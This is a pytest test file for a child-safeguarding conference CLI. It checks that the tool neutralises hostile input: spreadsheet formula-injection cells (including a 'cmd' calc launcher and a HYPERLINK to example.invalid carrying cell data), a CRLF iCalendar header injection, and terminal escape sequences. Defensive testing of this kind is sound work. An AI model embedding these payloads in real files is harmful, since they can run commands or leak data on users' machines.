"""Hostile and broken files (issue 16): each numbered item of the issue, through the CLI.

No formula cells in a CSV export, no row lost without being counted, no input overwritten,
no traceback, and no control character from the data reaching a calendar or a terminal.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from safeguarding_rules.cli import main

HEADER = "child_id,conference_id,conference_type,conference_date,strategy_discussion_date,reason_for_delay\n"
GOOD = "A,C1,initial,2015-01-08,2014-12-15,\n"
ATTENDANCE = "conference_id,agency,mode,direct_contact,chair_reason\n"
QUORATE = (
    "C9,childrens_social_care,in_person,yes,\n"
    "C9,police,in_person,yes,\n"
    "C9,health_visitor,in_person,yes,\n"
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def run(*args: str, stdin: str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=stdin)
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        f"traceback: {result.exception!r}"
    )
    return result.exit_code, result.stdout, result.stderr


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8", newline="")
    return path


# -- 1. CSV formula injection -------------------------------------------------------------


HOSTILE_CELLS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_report_csv_neutralises_every_formula_cell(tmp_path: Path) -> None:
    rows = "".join(
        f'"{cell.replace(chr(34), chr(34) * 2)}",K{n},initial,2015-01-28,2014-12-15,'
        f'"{cell.replace(chr(34), chr(34) * 2)}"\n'
        for n, cell in enumerate(HOSTILE_CELLS)
    )
    path = write(tmp_path / "records.csv", HEADER + rows)
    code, out, err = run("report", str(path), "--format", "csv")
    assert code == 0, err
    table = list(csv.reader(io.StringIO(out)))
    cells = [cell for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    child, reason = table[0].index("child_id"), table[0].index("reason_for_delay")
    children = [row[child] for row in table[1:]]
    assert children == ["'" + cell.strip() for cell in HOSTILE_CELLS]  # the reader strips
    assert [row[reason] for row in table[1:]] == ["'" + cell.strip() for cell in HOSTILE_CELLS]


def test_only_the_output_module_writes_csv() -> None:
    """Every CSV the tool writes, now and later, goes through reports/output.py."""
    source = Path(__file__).resolve().parent.parent / "src" / "safeguarding_rules"
    writers = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if ("csv.writer" in (text := path.read_text("utf-8")) or "csv.DictWriter" in text)
    ]
    assert writers == [str(Path("reports") / "output.py")]


# -- 3. every skipped row counted and listed ----------------------------------------------


def test_attendance_ragged_rows_are_skipped_counted_and_listed(tmp_path: Path) -> None:
    path = write(
        tmp_path / "attendance.csv",
        ATTENDANCE
        + QUORATE
        + "C1,police,in_person,yes,,extra\n"
        + "C2,police,in_person\n"
        + "C1,childrens_social_care,in_person,yes,\n",
    )
    code, out, err = run("quoracy", str(path), "-r", "england", "--skip-invalid")
    assert code == 0, err
    assert "1 of 1 conference(s) quorate" in out
    assert "attendance.csv, row 5: 6 values for 5 header columns" in err
    assert "attendance.csv, row 6: 3 values for 5 header columns" in err
    assert "Conference C1" not in out  # its rows are incomplete: not decided on a part


def test_json_lines_lists_every_bad_line(tmp_path: Path) -> None:
    good = {
        "child_id": "A",
        "conference_id": "C1",
        "conference_type": "initial",
        "conference_date": "2015-01-08",
        "strategy_discussion_date": "2014-12-15",
    }
    path = write(
        tmp_path / "records.jsonl",
        '{"child_id": "X"\n' + json.dumps(good) + "\nnot json\n[1, 2]\n",
    )
    code, _, err = run("report", str(path))
    assert code == 1
    assert "records.jsonl, row 1: not valid JSON" in err
    assert "records.jsonl, row 3: not valid JSON" in err
    assert "records.jsonl, row 4: not a JSON object" in err
    code, out, err = run("report", str(path), "--skip-invalid", "--format", "json")
    assert code == 0, err
    records = json.loads(out)["records"]
    assert (records["rows"], records["skipped_rows"]) == (1, 3)
    assert len(records["problems"]) == 3


def test_json_lines_attendance_lists_every_bad_line(tmp_path: Path) -> None:
    lines = [json.dumps({"conference_id": "C9", "agency": a, "mode": "in_person",
                         "direct_contact": "yes"}) for a in ("childrens_social_care", "police", "health_visitor")]  # fmt: skip
    path = write(tmp_path / "attendance.jsonl", "\n".join(["{", *lines, "42", "{]"]) + "\n")
    code, out, err = run("quoracy", str(path), "-r", "england", "--skip-invalid")
    assert code == 0, err
    assert "1 of 1 conference(s) quorate" in out
    for row in (1, 5, 6):
        assert f"attendance.jsonl, row {row}:" in err


def test_a_quote_left_open_in_the_attendance_header(tmp_path: Path) -> None:
    path = write(tmp_path / "attendance.csv", '"' + ATTENDANCE + QUORATE)
    code, out, err = run("quoracy", str(path), "-r", "england", "--skip-invalid")
    assert code == 1
    assert out == ""
    assert "attendance.csv, row 1: the header runs over" in err


def test_a_quote_left_open_swallowing_attendance_rows(tmp_path: Path) -> None:
    path = write(
        tmp_path / "attendance.csv",
        ATTENDANCE + 'C1,police,in_person,yes,"chair unwell\n' + QUORATE,
    )
    code, out, err = run("quoracy", str(path), "-r", "england", "--skip-invalid")
    assert code == 0, err
    assert "0 of 0 conference(s)" in out
    assert "attendance.csv, row 2: a quoted value runs from line 2 to line 5 where no line" in err


# -- 4. one conference's chair_reason does not stop the run -------------------------------

SECRET = "Ms Example disclosed at the door"


def test_chair_reason_disagreement_is_one_conference_s_problem(tmp_path: Path) -> None:
    path = write(
        tmp_path / "attendance.csv",
        ATTENDANCE
        + QUORATE
        + f"C1,police,in_person,yes,{SECRET}\n"
        + f"C1,childrens_social_care,in_person,yes,{SECRET} (2)\n",
    )
    code, out, err = run("quoracy", str(path), "-r", "england", "--skip-invalid")
    assert code == 0, err
    assert "1 of 1 conference(s) quorate" in out
    assert "attendance.csv, row 5, column 'chair_reason'" in err
    assert "rows (5, 6)" in err
    assert SECRET not in err
    code, _, err = run("quoracy", str(path), "-r", "england")
    assert code == 1
    assert "attendance.csv, row 5, column 'chair_reason'" in err
    assert SECRET not in err


def test_chair_proceeding_where_forbidden_is_one_conference_s_problem(tmp_path: Path) -> None:
    path = write(
        tmp_path / "attendance.csv",
        ATTENDANCE + QUORATE + f"C1,police,in_person,yes,{SECRET}\n",
    )
    for command in (["quoracy", "-r", "england"], ["report", "--attendance"]):
        args = [*command, str(path)]
        code, _, err = run(*args, "--skip-invalid")
        assert code == 0, err
        assert "attendance.csv, row 5, column 'chair_reason': conference C1:" in err
        assert SECRET not in err
        code, _, err = run(*args)
        assert code == 1
        assert "attendance.csv, row 5, column 'chair_reason'" in err
        assert "Traceback" not in err


def test_report_counts_only_the_decided_conferences(tmp_path: Path) -> None:
    path = write(
        tmp_path / "attendance.csv",
        ATTENDANCE + QUORATE + f"C1,police,in_person,yes,{SECRET}\n",
    )
    code, out, err = run("report", "--attendance", str(path), "--skip-invalid", "--format", "json")
    assert code == 0, err
    assert json.loads(out)["quoracy"]["conferences"] == {"on_time": 1, "total": 1, "percent": 100.0}


# -- 5. never over an input; atomic ---------------------------------------------------------


@pytest.mark.parametrize("how", ["same", "relative", "symlink", "hardlink", "attendance"])
def test_output_never_overwrites_an_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    records = write(tmp_path / "records.csv", HEADER + GOOD)
    attendance = write(tmp_path / "attendance.csv", ATTENDANCE + QUORATE)
    before = records.read_bytes(), attendance.read_bytes()
    target = {
        "same": records,
        "relative": Path("records.csv"),
        "symlink": tmp_path / "link.csv",
        "hardlink": tmp_path / "hard.csv",
        "attendance": attendance,
    }[how]
    if how == "symlink":
        target.symlink_to(records)
    if how == "hardlink":
        os.link(records, target)
    monkeypatch.chdir(tmp_path)
    code, _, err = run(
        "report", str(records), "--attendance", str(attendance), "--format", "html",
        "-o", str(target),
    )  # fmt: skip
    assert code == 1
    assert f"refusing to write {target}: it is the input file" in err
    assert (records.read_bytes(), attendance.read_bytes()) == before


def test_due_never_overwrites_its_input(tmp_path: Path) -> None:
    records = write(tmp_path / "records.csv", HEADER + "A,C1,initial,,2015-01-05,\n")
    code, _, err = run("due", str(records), "--as-of", "2015-01-10", "-o", str(records))
    assert code == 1
    assert "refusing to write" in err
    assert records.read_text("utf-8") == HEADER + "A,C1,initial,,2015-01-05,\n"


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = write(tmp_path / "report.html", "the previous report\n")

    def broken(*args: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", broken)
    code, _, err = run("report", "--format", "html", "-o", str(target))
    assert code == 1
    assert f"cannot write {target}: No space left on device" in err
    assert target.read_text("utf-8") == "the previous report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]


def test_output_replaces_atomically_and_keeps_the_mode(tmp_path: Path) -> None:
    target = write(tmp_path / "report.csv", "old\n")
    target.chmod(0o640)
    code, _, err = run("report", "--format", "csv", "-o", str(target))
    assert code == 0, err
    assert target.read_text("utf-8").startswith("row,child_id")
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.csv"]


# -- 6. no tracebacks --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("where", "expected"),
    [
        ("missing/report.html", "missing does not exist"),
        ("file.txt/report.html", "file.txt is not a folder"),
    ],
)
def test_output_into_a_missing_or_impossible_folder(
    tmp_path: Path, where: str, expected: str
) -> None:
    write(tmp_path / "file.txt", "x")
    code, _, err = run("report", "-o", str(tmp_path / where))
    assert code == 1
    assert f"cannot write {tmp_path / where}: " in err
    assert expected in err


def test_output_to_an_unwritable_place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("tempfile.mkstemp", refused)
    code, _, err = run("report", "-o", str(tmp_path / "report.txt"))
    assert code == 1
    assert "Permission denied" in err


def test_dash_reads_standard_input(tmp_path: Path) -> None:
    code, out, err = run("report", "-", "--format", "json", stdin=HEADER + GOOD)
    assert code == 0, err
    assert json.loads(out)["records"]["rows"] == 1
    code, out, err = run("quoracy", "-", "-r", "england", stdin=ATTENDANCE + QUORATE)
    assert code == 0, err
    assert "1 of 1 conference(s) quorate" in out
    code, out, err = run(
        "due", "-", "--as-of", "2015-01-10", stdin=HEADER + "A,C1,initial,,2015-01-05,\n"
    )
    assert code == 0, err
    assert "1 action(s) due" in out


def test_json_lines_on_standard_input_is_recognised() -> None:
    line = json.dumps({"child_id": "A", "conference_id": "C1", "conference_type": "initial",
                       "conference_date": "2015-01-08", "strategy_discussion_date": "2014-12-15"})  # fmt: skip
    code, out, err = run("report", "-", "--format", "json", stdin=line + "\n")
    assert code == 0, err
    assert json.loads(out)["records"]["rows"] == 1


def test_only_one_input_can_be_standard_input() -> None:
    code, _, err = run("report", "-", "--attendance", "-", stdin=HEADER + GOOD)
    assert code == 2
    assert "only one input can be standard input" in err


@pytest.mark.parametrize("argument", ["/dev/stdin", "-"])
def test_a_pipe_as_input(argument: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "safeguarding_rules", "report", argument, "--format", "json"],
        input=HEADER + GOOD,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert json.loads(done.stdout)["records"]["rows"] == 1


@pytest.mark.parametrize(
    ("args", "code", "expected"),
    [
        (["--within", "999999999"], 0, "1 action(s) due at any date"),
        (["--within", "-1"], 2, "-1 is not in the range x>=0"),
        # Refused as a bad option value (exit 2), naming it, before the file is read.
        (["--as-of", "9999-12-31"], 2, "'--as-of': day 9999-12-31 is outside"),
        (["--as-of", "2005-12-31"], 2, "'--as-of': day 2005-12-31 is outside"),
    ],
)
def test_due_with_extreme_dates(tmp_path: Path, args: list[str], code: int, expected: str) -> None:
    records = write(tmp_path / "records.csv", HEADER + "A,C1,initial,,2015-01-05,\n")
    options = {"--as-of": "2015-01-10", **dict(zip(args[::2], args[1::2], strict=True))}
    flat = [item for pair in options.items() for item in pair]
    exit_code, out, err = run("due", str(records), *flat)
    assert exit_code == code, err
    assert expected in out + err


# -- 7. control characters: iCalendar and the terminal ------------------------------------

CONTROL = '"C1\rX-INJECT:evil\x00\x07","A\x1b[31mred\x1b]0;title\x07"'


def test_ics_text_values_carry_no_control_characters(tmp_path: Path) -> None:
    icalendar = pytest.importorskip("icalendar")
    records = write(
        tmp_path / "records.csv",
        "conference_id,child_id,conference_type,conference_date,strategy_discussion_date\n"
        f"{CONTROL},initial,,2015-01-05\n",
    )
    target = tmp_path / "team.ics"
    code, _, err = run(
        "due", str(records), "--as-of", "2015-01-10", "--format", "ics", "-o", str(target)
    )
    assert code == 0, err
    out = target.read_bytes().decode("utf-8")
    body = out.replace("\r\n", "")
    assert not [c for c in body if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F]
    assert not [line for line in out.split("\r\n") if line.startswith("X-INJECT")]
    calendar = icalendar.Calendar.from_ical(out)
    (event,) = calendar.walk("VEVENT")
    assert "X-INJECT" not in event
    assert "conference C1\nX-INJECT:evil\\x00\\x07" in str(event["SUMMARY"])
    assert "A\\x1b[31mred" in str(event["DESCRIPTION"])


def test_due_text_passes_no_terminal_escape_through(tmp_path: Path) -> None:
    records = write(
        tmp_path / "records.csv",
        "conference_id,child_id,conference_type,conference_date,strategy_discussion_date\n"
        f"{CONTROL},initial,,2015-01-05\n",
    )
    code, out, err = run("due", str(records), "--as-of", "2015-01-10")
    assert code == 0, err
    assert not [c for c in out if ord(c) < 0x20 and c != "\n"]
    assert "C1\\rX-INJECT:evil\\x00\\x07" in out


def test_quoracy_and_errors_pass_no_terminal_escape_through(tmp_path: Path) -> None:
    path = write(
        tmp_path / "attendance.csv",
        ATTENDANCE + "C\x1b[2J1,police\x1b]0;x\x07,in_person,yes,\nC2,police,maybe\x1b[5m,yes,\n",
    )
    code, out, err = run("quoracy", str(path), "-r", "england", "--skip-invalid")
    assert code == 0, err
    assert "\x1b" not in out + err
    assert "\x07" not in out + err
    assert "C\\x1b[2J1" in out
